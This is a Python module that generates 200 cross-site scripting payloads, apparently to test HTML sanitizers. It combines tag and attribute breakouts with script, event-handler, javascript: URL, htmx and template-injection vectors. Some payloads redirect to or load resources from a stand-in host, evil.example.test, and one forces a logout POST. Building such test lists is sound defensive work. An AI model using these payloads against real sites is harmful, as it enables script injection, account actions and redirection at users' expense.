"""Two hundred texts that would run, load or submit something where a page took them for more than text."""

# What leaves the place where a text stands: between tags, in an attribute, in a title, a script or a comment.
_OUT = ("", '">', "'>", "</title>", "</textarea></select>", "</script>", "--></style>", "</svg></math>", '" ', "]]>`${")
_RUN = "window.__xss=1"
# What runs once it is out.
_DO = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt\n>{_RUN}</sCrIpT >",
    f"<img src=x onerror={_RUN}>",
    f"<svg/onload={_RUN}>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    f"<iframe src=javascript:parent.{_RUN}></iframe>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<input autofocus onfocus={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={_RUN}>x</b>",
    f"<object data=javascript:{_RUN}></object>",
    f"<a href=javascript:{_RUN} autofocus onfocus={_RUN}>x</a>",
    f"autofocus onfocus={_RUN} onmouseover={_RUN} x=",
    f"<form action=javascript:{_RUN}><button autofocus onfocus={_RUN}>x</button></form>",
    "<div hx-get=/audit hx-trigger=load hx-swap=outerHTML>x</div>",
    f"<button hx-on:htmx:load={_RUN} hx-post=/logout hx-trigger=load>x</button>",
    "<base href=//evil.example.test/><meta http-equiv=refresh content=0;url=//evil.example.test/>",
    "<link rel=stylesheet href=//evil.example.test/x.css><embed src=//evil.example.test/>",
    f"{{{{ ''.__class__ }}}}{{% raw %}}<%= {_RUN} %>${{{_RUN}}}&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"javascript:{_RUN}//\u2028%3Cscript%3E{_RUN}%3C/script%3E\uff1cscript\uff1e+ADw-script+AD4-",
)
PAYLOADS = [f"{out}{do}" for do in _DO for out in _OUT]
assert len(set(PAYLOADS)) == 200
